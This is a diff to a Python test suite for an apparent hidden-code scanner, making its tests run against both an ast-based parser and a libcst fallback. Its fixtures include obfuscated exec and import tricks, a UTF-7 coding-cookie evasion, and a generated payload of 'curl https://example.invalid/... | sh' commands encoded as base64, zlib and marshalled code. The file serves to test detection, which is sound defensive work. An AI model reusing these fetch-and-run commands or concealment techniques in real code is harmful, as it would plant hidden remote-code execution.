@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import importlib
 import marshal
 import pickle
 import zlib
+from typing import Protocol
 
 import pytest
 
@@ -23,7 +25,31 @@ from fromsource.inspect.model import (
     KIND_PYTHON,
     KIND_TEXT,
 )
+from fromsource.inspect.model import Finding
 from fromsource.wheelrecord import check_record
+
+
+class Parser(Protocol):
+    """What codecheck (``ast``) and its fallback cstcheck (libcst) both answer."""
+
+    def classify_change(self, old: bytes, new: bytes) -> str: ...
+    def is_literal_only(self, source: bytes) -> bool | None: ...
+    def deep_lint(self, path: str, source: bytes) -> list[Finding]: ...
+
+
+@pytest.fixture(params=["codecheck", "cstcheck"], ids=["ast", "libcst"])
+def parser(request: pytest.FixtureRequest) -> Parser:
+    """Every case table runs through both parsers: the libcst fallback must agree with ast."""
+    module: Parser = importlib.import_module(f"fromsource.inspect.{request.param}")
+    return module
+
+
+def _libcst_gap(request: pytest.FixtureRequest, parser: Parser, reason: str,
+                raises: type[BaseException] = AssertionError) -> None:
+    """A case where the libcst fallback is known to disagree with ``ast`` (found by running
+    the tables through both): expected to fail there, strictly, so a fix shows up."""
+    if parser.__name__.endswith("cstcheck"):  # type: ignore[attr-defined]
+        request.applymarker(pytest.mark.xfail(strict=True, raises=raises, reason=reason))
 
 
 @pytest.mark.parametrize(
@@ -91,8 +117,8 @@ def test_learnt_relocation_finds_moved_counterparts() -> None:
         (b"x = 1\n", b"def (:\n", CHANGE_UNPARSABLE),
     ],
 )
-def test_classify_change(old: bytes, new: bytes, change: str) -> None:
-    assert codecheck.classify_change(old, new) == change
+def test_classify_change(parser: Parser, old: bytes, new: bytes, change: str) -> None:
+    assert parser.classify_change(old, new) == change
 
 
 @pytest.mark.parametrize(
@@ -111,46 +137,50 @@ def test_classify_change(old: bytes, new: bytes, change: str) -> None:
         (b"def (:\n", None),
     ],
 )
-def test_is_literal_only(source: bytes, expected: bool | None) -> None:
-    assert codecheck.is_literal_only(source) is expected
+def test_is_literal_only(parser: Parser, source: bytes, expected: bool | None) -> None:
+    assert parser.is_literal_only(source) is expected
 
 
-def _rules(source: bytes) -> list[str]:
-    return [f.rule for f in codecheck.deep_lint("m.py", source)]
+def _rules(parser: Parser, source: bytes) -> list[str]:
+    return [f.rule for f in parser.deep_lint("m.py", source)]
 
 
-def test_deep_lint_finds_hidden_code() -> None:
-    assert _rules(b"import base64\nexec(base64.b64decode(b'eA=='))\n") == ["exec-decoded"]
-    assert _rules(b"import zlib\ncode = zlib.decompress(b'x')\neval(code)\n") == ["exec-decoded"]
-    assert _rules(b"exec(''.join(chr(c) for c in [112]))\n") == ["exec-decoded"]
-    assert _rules(b"import marshal\nexec(marshal.loads(b''))\n") == ["exec-decoded", "marshal"]
-    assert _rules(b"__import__('o' + 's')\n") == ["computed-import"]
-    assert _rules(b"__import__(bytes.fromhex('6f73').decode())\n") == ["computed-import"]
-    assert _rules(b"import importlib\nimportlib.import_module('so'[::-1])\n") == ["computed-import"]
+def test_deep_lint_finds_hidden_code(parser: Parser) -> None:
+    assert _rules(parser, b"import base64\nexec(base64.b64decode(b'eA=='))\n") == ["exec-decoded"]
+    assert _rules(parser, b"import zlib\ncode = zlib.decompress(b'x')\neval(code)\n") == ["exec-decoded"]
+    assert _rules(parser, b"exec(''.join(chr(c) for c in [112]))\n") == ["exec-decoded"]
+    assert _rules(parser, b"import marshal\nexec(marshal.loads(b''))\n") == ["exec-decoded", "marshal"]
+    assert _rules(parser, b"__import__('o' + 's')\n") == ["computed-import"]
+    assert _rules(parser, b"__import__(bytes.fromhex('6f73').decode())\n") == ["computed-import"]
+    assert _rules(parser, b"import importlib\nimportlib.import_module('so'[::-1])\n") == ["computed-import"]
 
 
-def test_deep_lint_leaves_ordinary_code_alone() -> None:
-    assert _rules(b"__import__(name)\n__import__('six.moves.' + item)\n") == []
-    assert _rules(b"exec('x = 1')\nexec(compile(src, path, 'exec'))\n") == []
-    assert _rules(b"import re\nP = re.compile('a+')\n") == []
-    assert _rules(b"def f(:\n") == ["does-not-parse"]
+def test_deep_lint_leaves_ordinary_code_alone(parser: Parser) -> None:
+    assert _rules(parser, b"__import__(name)\n__import__('six.moves.' + item)\n") == []
+    assert _rules(parser, b"exec('x = 1')\nexec(compile(src, path, 'exec'))\n") == []
+    assert _rules(parser, b"import re\nP = re.compile('a+')\n") == []
+    assert _rules(parser, b"def f(:\n") == ["does-not-parse"]
 
 
 _PAYLOAD = b"import os\n" + b"".join(  # varied enough that it compresses to 1,000+ characters
     f"os.system('curl https://example.invalid/{i * 7919 % 10007} | sh')\n".encode() for i in range(300))
 
 
-def test_long_encoded_literals() -> None:
+def test_long_encoded_literals(parser: Parser) -> None:
     blob = base64.b64encode(zlib.compress(_PAYLOAD) + _PAYLOAD).decode()
     one = f'X = "{blob}"\n'.encode()
     assert lint.suspect(one)
-    assert _rules(one) == ["long-encoded-literal"]
+    assert _rules(parser, one) == ["long-encoded-literal"]
     lines = "".join(f'    "{blob[i : i + 76]}"\n' for i in range(0, len(blob), 76))
     split = f"X = (\n{lines})\n".encode()
     assert lint.suspect(split)
-    assert _rules(split) == ["long-encoded-literal"]
+    assert _rules(parser, split) == ["long-encoded-literal"]
     words = ("\n".join(f"word{i}" for i in range(400))).encode()
-    assert _rules(b'W = """' + words + b'"""\n') == []  # a word list is not an encoding
+    assert _rules(parser, b'W = """' + words + b'"""\n') == []  # a word list is not an encoding
+
+
+_CODE = marshal.dumps(compile(_PAYLOAD, "m", "exec"))
+_MARSHALLED = (_CODE.hex(), "AB" + base64.b64encode(_CODE).decode())
 
 
 @pytest.mark.parametrize("encoded", [
@@ -158,23 +188,26 @@ def test_long_encoded_literals() -> None:
     base64.b64encode(zlib.compress(_PAYLOAD)).decode(),  # compressed
     zlib.compress(_PAYLOAD).hex(),
     "3" + zlib.compress(_PAYLOAD).hex(),  # shifted by a nibble
-    marshal.dumps(compile(_PAYLOAD, "m", "exec")).hex(),  # a code object
-    "AB" + base64.b64encode(marshal.dumps(compile(_PAYLOAD, "m", "exec"))).decode(),  # shifted quanta
+    *_MARSHALLED,  # a code object; shifted quanta
     base64.urlsafe_b64encode(pickle.dumps(list(range(500)))).decode(),
 ])
-def test_long_literal_that_decodes_to_something_runnable_is_flagged(encoded: str) -> None:
+def test_long_literal_that_decodes_to_something_runnable_is_flagged(
+        request: pytest.FixtureRequest, parser: Parser, encoded: str) -> None:
+    if encoded in _MARSHALLED:
+        _libcst_gap(request, parser, "libcst recurses once per implicitly concatenated string",
+                    RecursionError)
     lines = "".join(f'    "{encoded[i : i + 76]}"\n' for i in range(0, len(encoded), 76))
-    assert _rules(f"X = (\n{lines})\n".encode()) == ["long-encoded-literal"]
+    assert _rules(parser, f"X = (\n{lines})\n".encode()) == ["long-encoded-literal"]
 
 
-def test_long_literal_of_random_looking_data_is_not_flagged() -> None:
+def test_long_literal_of_random_looking_data_is_not_flagged(parser: Parser) -> None:
     # sympy's test_bbp_pi.py holds 8,337 hex digits of pi: data, not a hidden payload.
     digits = hashlib.sha512(b"pi").hexdigest() * 70
     lines = "".join(f"{digits[i : i + 80]}\n" for i in range(0, len(digits), 80))
     quote = "'" * 3
-    assert _rules(f"dig = ''.join({quote}\n{lines}{quote}.split())\n".encode()) == []
+    assert _rules(parser, f"dig = ''.join({quote}\n{lines}{quote}.split())\n".encode()) == []
     key = base64.b64encode(hashlib.sha512(b"k").digest() * 20).decode()
-    assert _rules(f'KEY = "{key}"\n'.encode()) == []
+    assert _rules(parser, f'KEY = "{key}"\n'.encode()) == []
 
 
 def test_prefilter_is_quiet_on_ordinary_code() -> None:
@@ -317,17 +350,27 @@ HOSTILE = [
 ]
 
 
+# Hidden code the libcst fallback does not find yet (ast does).
+_LIBCST_MISSES = {
+    HOSTILE[3]: "identifiers are not NFKC-normalised as the tokenizer does",
+    HOSTILE[9]: "a name bound by := is not followed to exec",
+}
+
+
 @pytest.mark.parametrize("source", HOSTILE)
-def test_prefilter_flags_what_the_parser_finds(source: bytes) -> None:
-    assert codecheck.deep_lint("m.py", source), source
+def test_prefilter_flags_what_the_parser_finds(request: pytest.FixtureRequest, parser: Parser,
+                                              source: bytes) -> None:
+    if source in _LIBCST_MISSES:
+        _libcst_gap(request, parser, _LIBCST_MISSES[source])
+    assert parser.deep_lint("m.py", source), source
     assert lint.suspect(source), source
 
 
-def test_coding_cookie_is_honoured() -> None:
+def test_coding_cookie_is_honoured(parser: Parser) -> None:
     source = b"# coding: utf-7\nimport base64\n+AGUAeABlAGM-(base64.b64decode(b'eA=='))\n"
     assert b"exec" not in source  # the bytes do not spell it
     assert lint.suspect(source)
-    assert _rules(source) == ["exec-decoded"]
+    assert _rules(parser, source) == ["exec-decoded"]
 
 
 @pytest.mark.parametrize(
@@ -380,8 +423,11 @@ def test_libcst_is_only_a_fallback() -> None:
         (b"x = 0x10\n", b"x = 16\n", CHANGE_FORMATTING),
     ],
 )
-def test_classify_change_follows_the_interpreter(old: bytes, new: bytes, change: str) -> None:
-    assert codecheck.classify_change(old, new) == change
+def test_classify_change_follows_the_interpreter(request: pytest.FixtureRequest, parser: Parser,
+                                                old: bytes, new: bytes, change: str) -> None:
+    if b";" in old or b": b()" in old:
+        _libcst_gap(request, parser, "statements split over lines count as a code change")
+    assert parser.classify_change(old, new) == change
 
 
 def test_forked_prefilter_gives_the_same_report(monkeypatch) -> None:
